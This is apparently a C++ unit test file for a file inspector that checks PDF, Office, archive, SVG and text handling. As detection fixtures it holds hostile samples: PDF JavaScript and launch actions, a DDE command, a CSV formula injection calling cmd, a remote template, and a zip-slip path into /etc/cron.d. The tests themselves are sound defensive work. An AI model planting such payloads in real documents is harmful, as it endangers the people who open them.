// PDFs, office files, archives and drawings that the tests make themselves.
#include <archive.h>
#include <archive_entry.h>
#include <gmock/gmock.h>

#include "inspect/test_documents.h"
#include "inspect/test_inspector.h"
#include "inspect/test_pictures.h"

namespace stoa::inspect {
namespace {

using testing::HasSubstr;
using testing::StartsWith;

TEST(Documents, PdfIsReadWithPlaces) {
    const auto looked = test_inspector().look(
        pdf("Invoice 4711",
            "/Annots [<< /Type /Annot /Subtype /Link /Rect [40 190 200 230] /A << /S /URI /URI (https://shop.example/x) >> >>]"),
        "invoice.pdf", "application/pdf");
    const Report& report = looked.report;
    EXPECT_FALSE(report.trouble) << report.trouble->detail;
    EXPECT_TRUE(report.findings.empty());
    EXPECT_EQ(report.pages, 1);
    ASSERT_EQ(all_text(report), "Invoice 4711\n");
    const Box box = report.passages.front().place.box.value_or(Box{});
    EXPECT_NEAR(box.x, 40, 3);
    EXPECT_NEAR(box.y, 75, 12);
    ASSERT_EQ(report.links.size(), 1U);
    EXPECT_EQ(report.links.front().target, "https://shop.example/x");
    EXPECT_EQ(report.links.front().place.box, (Box{.x = 40, .y = 70, .width = 160, .height = 40}));
    EXPECT_THAT(looked.preview, StartsWith("\xff\xd8\xff"));
    EXPECT_EQ(report.preview->width, 1200);
    EXPECT_EQ(report.thumbnail->width, 320);
}

// The font is not in the document; it is found in the sandbox, or there would be nothing to recognise.
TEST(Documents, TextInPixelsIsRecognised) {
    const InspectionOptions options{.recognition = InspectionOptions::Recognition::On};
    const auto page = test_inspector().look(pdf("Leave us a review"), {}, {}, options);
    EXPECT_FALSE(page.report.trouble) << page.report.trouble->detail;
    EXPECT_THAT(all_text(page.report, TextOrigin::Recognised), HasSubstr("review"));
    const auto picture = test_inspector().look(page.preview, {}, {}, options);
    EXPECT_THAT(all_text(picture.report, TextOrigin::Recognised), HasSubstr("review"));
    ASSERT_FALSE(picture.report.passages.empty());
    EXPECT_NEAR(picture.report.passages.front().place.box.value_or(Box{}).x, 120, 12);
}

TEST(Documents, TextInTurnedPixelsIsRecognisedWhereItStands) {
    const InspectionOptions options{.recognition = InspectionOptions::Recognition::On};
    const std::string upright = test_inspector().look(pdf("Leave us a review"), {}, {}, options).preview;
    const Box flat = test_inspector().look(upright, {}, {}, options).report.passages.at(0).place.box.value_or(Box{});
    const int width = test_inspector().look(upright).report.picture->width, height = test_inspector().look(upright).report.picture->height;
    for (const int quarters : {1, 2, 3}) {
        const Report report = test_inspector().look(turned(upright, quarters), {}, {}, options).report;
        ASSERT_THAT(all_text(report, TextOrigin::Recognised), HasSubstr("review")) << quarters;
        const Box box = report.passages.at(0).place.box.value_or(Box{});
        EXPECT_NEAR(box.x, (std::array{0, height - flat.y - flat.height, width - flat.x - flat.width, flat.y}.at(quarters)), 12)
            << quarters;
        EXPECT_NEAR(box.y, (std::array{0, flat.x, height - flat.y - flat.height, width - flat.x - flat.width}.at(quarters)), 12)
            << quarters;
    }
}

TEST(Documents, WhatPdfsDoIsFound) {
    const auto concern = [](const std::string& bytes) {
        const Report report = test_inspector().look(bytes).report;
        return report.findings.empty() ? std::string() : std::string(id_of(report.findings.front().concern));
    };
    EXPECT_EQ(concern(pdf("x", {}, "/OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >>")), "javascript");
    EXPECT_EQ(concern(pdf("x", {}, "/OpenAction << /S /Launch /F (calc.exe) >>")), "launch_action");
    EXPECT_EQ(concern(pdf("x", {}, "/AcroForm << /XFA (x) >>")), "automatic_action");
    EXPECT_EQ(concern(pdf("x", "/AA << /O << /S /SubmitForm /F (http://x.example) >> >>")), "submits_form");
    EXPECT_EQ(concern(pdf("x", {}, "/OpenAction << /S /GoTo /D [3 0 R /Fit] >>")), "");
    EXPECT_EQ(concern("%PDF-1.4\nnothing more"), "damaged");
}

TEST(Documents, OfficeFilesAreRead) {
    const auto clean = test_inspector().look(
        docx("<w:p><w:r><w:t>Dear </w:t></w:r><w:r><w:t>customer</w:t></w:r></w:p><w:p><w:r><w:t>Bye</w:t></w:r></w:p>",
             "<Relationship Type='x/hyperlink' Target='https://shop.example' TargetMode='External'/>"),
        "letter.docx");
    EXPECT_EQ(clean.report.kind, FileKind::Docx);
    EXPECT_TRUE(clean.report.findings.empty());
    EXPECT_EQ(all_text(clean.report), "Dear customer\nBye\n");
    ASSERT_EQ(clean.report.links.size(), 1U);

    const auto has = [](const std::string& bytes, Concern concern) { return test_inspector().look(bytes).report.has(concern); };
    EXPECT_TRUE(has(docx("<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x cmd</w:instrText></w:r></w:p>"),
                    Concern::DynamicExchange));
    EXPECT_TRUE(has(docx("", "<Relationship Type='x/attachedTemplate' Target='http://x.example/a.dotm' TargetMode='External'/>"),
                    Concern::ExternalLink));
    EXPECT_TRUE(has(docx("", {}, {{"word/vbaProject.bin", "x"}}), Concern::Macro));
    EXPECT_TRUE(has(docx("", {}, {{"word/embeddings/oleObject1.bin", "x"}}), Concern::EmbeddedObject));
    EXPECT_TRUE(has(zip({{"META-INF/MANIFEST.MF", "x"}, {"A.class", "x"}}), Concern::Program));
    EXPECT_TRUE(has(R"({\rtf1 {\object\objemb{\*\objdata 0105}}})", Concern::EmbeddedObject));
    EXPECT_TRUE(has("name,price\ncup,=cmd|'/C calc'!A0\n", Concern::DynamicExchange));
}

TEST(Documents, ArchivesAreRefusedOrOpened) {
    const InspectionOptions open{.archives = InspectionOptions::Containers::Open};
    const std::string good = zip({{"photos/cup.jpg", turned_jpeg_with_position()}, {"note.txt", "The cup is broken"}});
    EXPECT_TRUE(test_inspector().look(good).report.has(Concern::Archive));
    const auto opened = test_inspector().look(good, "photos.zip", "application/zip", open);
    EXPECT_TRUE(opened.report.findings.empty()) << opened.report.findings.front().detail;
    EXPECT_THAT(opened.rebuilt, StartsWith("PK"));
    EXPECT_THAT(opened.rebuilt, testing::Not(HasSubstr("Somebody")));
    EXPECT_EQ(all_text(opened.report), "The cup is broken\n");

    const auto has = [&](const std::string& bytes, Concern concern, InspectionOptions options) {
        const auto looked = test_inspector().look(bytes, {}, {}, options);
        return looked.report.has(concern) && !looked.report.rebuilt;
    };
    EXPECT_TRUE(has(zip({{"../../etc/cron.d/x", "x"}}), Concern::ArchiveEscapes, open));
    EXPECT_TRUE(has(zip({{"run.sh", "#!/bin/sh\n"}}), Concern::Script, open));
    EXPECT_TRUE(has(zip({{"zeros.bin", std::string(12 << 20, '\0')}}), Concern::TooLarge, open));
    EXPECT_TRUE(has(zip({{"a.zip", zip({{"b.zip", zip({{"c.zip", zip({{"d.txt", "x"}})}})}})}}), Concern::ArchiveTooDeep, open));
    InspectionOptions few = open;
    few.archive_entries = 3;
    EXPECT_TRUE(has(zip({{"1.txt", "x"}, {"2.txt", "x"}, {"3.txt", "x"}, {"4.txt", "x"}}), Concern::ArchiveTooMany, few));
}

// The names of a ZIP's entries, in their order.
std::vector<std::string> names_in(const std::string& bytes) {
    std::vector<std::string> names;
    ::archive* reader = ::archive_read_new();
    ::archive_read_support_format_zip(reader);
    EXPECT_EQ(::archive_read_open_memory(reader, bytes.data(), bytes.size()), ARCHIVE_OK);
    for (::archive_entry* entry = nullptr; ::archive_read_next_header(reader, &entry) == ARCHIVE_OK;)
        names.emplace_back(::archive_entry_pathname(entry));
    ::archive_read_free(reader);
    return names;
}

TEST(Documents, ArchivesHoldWhatMayBeSentByItself) {
    InspectionOptions some{.archives = InspectionOptions::Containers::Open};
    some.archive_kinds = {FileKind::Jpeg, FileKind::Text, FileKind::Zip};
    const std::string letter = docx("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>");
    const auto mixed = test_inspector().look(zip({{"note.txt", "The cup is broken"}, {"papers/letter.docx", letter}}), {}, {}, some);
    ASSERT_EQ(mixed.report.findings.size(), 1U);
    EXPECT_EQ(mixed.report.findings[0], (Finding{.concern = Concern::ArchiveEntry, .detail = "papers/letter.docx"}));
    EXPECT_FALSE(mixed.report.rebuilt);
    const auto inner = test_inspector().look(zip({{"more.zip", zip({{"letter.docx", letter}})}}), {}, {}, some);
    ASSERT_EQ(inner.report.findings.size(), 1U);
    EXPECT_EQ(inner.report.findings[0].concern, Concern::ArchiveEntry);
    EXPECT_THAT(inner.report.findings[0].detail, HasSubstr("letter.docx"));
    const auto good = test_inspector().look(zip({{"cup.jpg", jpeg_800x600()}, {"note.txt", "The cup is broken"}}), {}, {}, some);
    EXPECT_TRUE(good.report.findings.empty());
    EXPECT_THAT(names_in(good.rebuilt), testing::ElementsAre("cup.jpg", "note.txt"));
}

TEST(Documents, EntriesThatAreMadeAnewAreCalledWhatTheyAre) {
    const InspectionOptions open{.archives = InspectionOptions::Containers::Open};
    // One pixel, by the specification of GIF89a.
    using namespace std::string_literals;
    const std::string dot = "GIF89a\1\0\1\0\x80\0\0\xff\0\0\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"s;
    const auto made =
        test_inspector().look(zip({{"scans/dot.gif", dot}, {"dot.png", dot}, {"cup", jpeg_800x600()}, {"noted", "A cup"}}), {}, {}, open);
    EXPECT_THAT(made.report.findings, testing::ElementsAre(testing::Field(&Finding::concern, Concern::TypeDisagrees))) << "a GIF is no PNG";
    const auto good =
        test_inspector().look(zip({{"scans/dot.gif", dot}, {"dot.gif", dot}, {"cup", jpeg_800x600()}, {"noted", "A cup"}}), {}, {}, open);
    EXPECT_TRUE(good.report.findings.empty());
    EXPECT_THAT(names_in(good.rebuilt), testing::ElementsAre("dot.png", "2 dot.png", "cup.jpg", "noted.txt"));
}

TEST(Documents, DrawingsAreRefusedOrDrawn) {
    const std::string drawing =
        "<svg xmlns='http://www.w3.org/2000/svg' width='200' height='100'><rect width='50' height='50' fill='red'/></svg>";
    EXPECT_TRUE(test_inspector().look(drawing).report.has(Concern::Markup));
    const auto drawn = test_inspector().look(drawing, "logo.svg", "image/svg+xml", {.drawings = InspectionOptions::Containers::Open});
    EXPECT_TRUE(drawn.report.findings.empty());
    EXPECT_THAT(drawn.rebuilt, StartsWith("\x89PNG"));
    EXPECT_EQ(drawn.report.picture->width, 200);
}

TEST(Documents, TextsAreReadInTheirCharset) {
    const auto utf = test_inspector().look("Gr\u00fc\u00dfe\nzweite Zeile", "a.txt", "text/plain");
    EXPECT_EQ(utf.report.charset, "UTF-8");
    EXPECT_EQ(all_text(utf.report), "Gr\u00fc\u00dfe\nzweite Zeile\n");
    const auto latin = test_inspector().look(
        "Mit freundlichen Gr\xfc\xdf"
        "en aus M\xfcnchen, sch\xf6ne Feiertage w\xfcnscht das Team",
        "a.txt");
    EXPECT_THAT(all_text(latin.report), HasSubstr("Gr\u00fc\u00df"));
    EXPECT_THAT(latin.report.findings, testing::IsEmpty());
}

}  // namespace
}  // namespace stoa::inspect
